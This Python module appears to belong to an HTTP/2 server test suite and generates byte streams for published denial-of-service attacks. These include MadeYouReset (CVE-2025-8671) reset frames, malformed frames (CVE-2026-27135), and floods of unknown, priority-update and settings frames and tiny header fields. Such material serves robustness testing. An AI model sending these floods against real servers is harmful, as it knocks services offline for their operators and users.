"""Attacks on HTTP/2 that were published, besides those of hostile.py: the bytes of each, made from a seed."""

import random
import struct
from collections.abc import Callable, Iterator

from hyperframe.frame import DataFrame, GoAwayFrame, SettingsFrame

from .fields import entry, unindexed
from .hostile import FLOOD, HEADERS, Abuse, begun, headers, message, raw

RESETTING: dict[str, Callable[[int], bytes]] = {
    "a window that grows by nothing": lambda stream: raw(8, 0, stream, bytes(4)),
    "a window beyond the most": lambda stream: raw(8, 0, stream, struct.pack(">I", 2**31 - 1)),
    "a priority of another size": lambda stream: raw(2, 0, stream, bytes(4)),
    "a stream that depends on itself": lambda stream: raw(2, 0, stream, struct.pack(">IB", stream, 0)),
    "DATA after its end": lambda stream: raw(0, 1, stream, message(b"x")),
}
"""Frames that have a server reset a call that has ended its request, as MadeYouReset names them (CVE-2025-8671)."""


def made_you_reset(chance: random.Random) -> Iterator[bytes]:
    """Calls that have the server reset them, in one of the known ways, also by who has said that they leave."""
    resetting = chance.choice(list(RESETTING.values()))
    yield begun(headers(1), *chance.choice([[], [GoAwayFrame(0)]]))
    for stream in range(3, FLOOD, 2):
        yield headers(stream) + DataFrame(stream, message(b""), flags=["END_STREAM"]).serialize() + resetting(stream)


def end_and_wrong_size(chance: random.Random) -> Iterator[bytes]:
    """A frame that ends the connection, and one of a wrong size (CVE-2026-27135)."""
    ends = [raw(2, 0, 0, bytes(5)), raw(0, 0, 0, b"x"), raw(3, 0, 9, bytes(4)), headers(2), raw(8, 0, 0, bytes(4))]
    yield begun(headers(1), chance.choice(ends), chance.choice([raw(3, 0, 1, b""), raw(4, 0, 0, b"xyz")]))


def unknown_flood(_: random.Random) -> Iterator[bytes]:
    """Frames of a kind that nobody knows, which are to be passed over."""
    yield begun()
    yield raw(0x16, 0xFF, 1, b"?") * FLOOD


def priority_update_flood(_: random.Random) -> Iterator[bytes]:
    yield begun(headers(1))
    yield raw(0x10, 0, 0, struct.pack(">I", 1) + b"u=0, i") * FLOOD


def table_size_flood(_: random.Random) -> Iterator[bytes]:
    """A table of the other side's headers that grows and shrinks."""
    yield begun(headers(1))
    yield (SettingsFrame(0, {1: 2**32 - 1}).serialize() + SettingsFrame(0, {1: 0}).serialize()) * (FLOOD // 2)


def tiny_fields(_: random.Random) -> Iterator[bytes]:
    """Calls of hundreds of tiny fields, named by a byte each, whose answers have no window (the bomb of 2026)."""
    kept = unindexed(HEADERS)
    yield begun(SettingsFrame(0, {4: 0}), headers(1, kept + entry(b"a", b"b")))
    for stream in range(3, 515, 2):
        yield headers(stream, kept + b"\xbe" * 440) + DataFrame(stream, message(b""), flags=["END_STREAM"]).serialize()


PUBLISHED: list[Abuse] = [
    made_you_reset,
    end_and_wrong_size,
    unknown_flood,
    priority_update_flood,
    table_size_flood,
    tiny_fields,
]
